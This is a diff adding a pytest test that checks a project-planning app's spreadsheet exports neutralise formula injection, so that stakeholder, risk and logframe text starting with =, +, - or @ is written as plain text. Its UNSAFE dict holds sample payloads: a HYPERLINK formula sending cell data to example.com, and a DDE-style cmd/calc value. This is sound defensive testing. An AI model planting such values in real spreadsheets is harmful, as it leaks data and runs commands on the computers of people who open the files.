@@ -82,3 +82,39 @@ def test_the_stakeholders_sheet_has_interest_and_influence_as_numbers(world, cli
 ])
 def test_only_a_cell_that_is_plainly_a_number_becomes_one(text, value):
     assert spreadsheet_value(text) == value and type(spreadsheet_value(text)) is type(value)
+
+
+UNSAFE = {  # what a partner, or a workshop's participant, might write: each a formula to a spreadsheet
+    "stakeholder": '=HYPERLINK("http://example.com/?"&A1,"Klicka här")',
+    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "risk": "+46 ringer mitt i natten",
+    "activity": "-2+3",
+    "pasted": "Byhövdingar\x0bfrån Word",  # a vertical tab from pasted Word text: XML 1.0 cannot carry it
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name", ["stakeholders_xlsx", "logframe_xlsx", "activities_xlsx", "risks_xlsx"])
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_plain_text(world, client_for, org, name):
+    """A stakeholder, risk or activity written as =, +, - or @ opens as text, not as a formula to run."""
+    project, lead = world["project"], world["ale_lead"]
+    services.create_item(project=project, actor=lead, organisation=org, kind="stakeholder",
+                         fields={"name_sv": UNSAFE["stakeholder"], "name_en": UNSAFE["pasted"],
+                                 "interest": 5, "influence": 4})
+    services.create_item(project=project, actor=lead, organisation=org, kind="risk",
+                         fields={"text_sv": UNSAFE["risk"], "owner": UNSAFE["owner"], "likelihood": 2, "impact": 3})
+    for level in ("result", "activity"):
+        services.create_item(project=project, actor=lead, organisation=org, kind="logframe",
+                             fields={"level": level, "text_sv": UNSAFE["activity"], "indicators_sv": UNSAFE["owner"],
+                                     "resources_sv": UNSAFE["stakeholder"], "starts_on": dt.date(2027, 3, 1),
+                                     "ends_on": dt.date(2027, 3, 5)})
+    _response, sheet = download(client_for(org, lead), name, project)
+    texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
+    assert texts, "the sheet holds the texts written"
+    for cell in texts:
+        assert cell.data_type == "s", (cell.coordinate, cell.value)
+        assert not cell.value.startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
+        assert "\x0b" not in cell.value
+    written = {cell.value for cell in texts}
+    assert written & {"'" + text for text in (UNSAFE["stakeholder"], UNSAFE["owner"], UNSAFE["risk"],
+                                               UNSAFE["activity"])}, "the text itself stays readable"
